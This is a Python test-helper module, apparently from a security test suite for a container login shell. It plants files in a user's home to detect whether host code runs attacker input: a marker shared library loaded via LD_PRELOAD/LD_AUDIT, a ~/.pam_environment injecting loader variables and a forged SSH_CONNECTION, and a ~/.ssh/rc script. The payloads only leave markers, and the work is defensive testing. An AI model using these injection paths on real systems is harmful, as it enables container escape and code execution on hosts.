"""What an attacker with an enrolled account writes into their home to run code on the host: a
real shared library that leaves a marker wherever the dynamic loader runs it, and the files
host components read (~/.pam_environment, ~/.ssh/rc, ~/.ssh/environment, ...).

Markers go into a host directory the user can write to; a marker there means host code ran.
"""

from __future__ import annotations

import os
import shutil
import tempfile
from pathlib import Path

from .cmd import run
from .users import LinuxUser

#: The library's source: its constructor (also run when it is loaded by LD_AUDIT, which needs
#: la_version) creates MARKERS/ran-uid-UID-EXE, EXE the program it was loaded into.
LIBRARY_C = r"""
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
unsigned int la_version(unsigned int version) { return version; }
__attribute__((constructor)) static void mark(void) {
    char exe[256] = "unknown", path[4096];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) exe[n] = 0;
    for (char *p = exe; *p; p++) if (*p == '/') *p = '_';
    snprintf(path, sizeof path, "%s/ran-uid-%d-%s", MARKERS, (int)getuid(), exe);
    close(open(path, O_CREAT | O_WRONLY, 0666));
}
"""


class Markers:
    """A world-writable host directory (mode 1777) for markers, removed by close()."""

    def __init__(self) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix="dockersh-chain-", dir="/tmp"))
        self.dir.chmod(0o1777)

    def left(self) -> list[str]:
        return sorted(p.name for p in self.dir.iterdir())

    def close(self) -> None:
        shutil.rmtree(self.dir, ignore_errors=True)


def put(user: LinuxUser, rel: str, text: str, mode: int = 0o644) -> Path:
    """Write a file in the user's home as the user would (owned by them)."""
    path = user.home / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    os.chown(path.parent, user.uid, user.gid)
    path.write_text(text)
    path.chmod(mode)
    os.chown(path, user.uid, user.gid)
    return path


def build_library(user: LinuxUser, markers: Markers, name: str = "x.so") -> Path:
    """Compile the marker library into the user's home (owned by them) and return its path."""
    source = markers.dir / "mark.c"
    source.write_text(LIBRARY_C)
    target = user.home / name
    run(["gcc", "-shared", "-fPIC", "-O2", f'-DMARKERS="{markers.dir}"', "-o", target, source])
    os.chown(target, user.uid, user.gid)
    source.unlink()
    return target


def pam_environment(library: Path, home: Path) -> str:
    """~/.pam_environment: every loader variable, locale and time zone paths in the home, and a
    forged SSH_CONNECTION (the audit record's remote)."""
    return "".join(f"{name} DEFAULT={value}\n" for name, value in (
        ("LD_PRELOAD", library), ("LD_AUDIT", library), ("LD_LIBRARY_PATH", home),
        ("GCONV_PATH", home), ("LOCPATH", home), ("TZ", home / "zone"),
        ("SSH_CONNECTION", '"203.0.113.9 4444 203.0.113.10 22"'),
    ))


RC_RAN = "ssh-rc-ran"


def rc_script(markers: Markers) -> str:
    """~/.ssh/rc: when PermitUserRC allows it, sshd runs `SHELL -c '/bin/sh .ssh/rc'`, through
    the login shell (dash without ForceCommand: on the host). It leaves RC_RAN in the home
    wherever it runs, and a host marker when that is the host."""
    return f'touch "$HOME/{RC_RAN}" "{markers.dir}/ssh-rc-ran-uid-$(id -u)"\n'
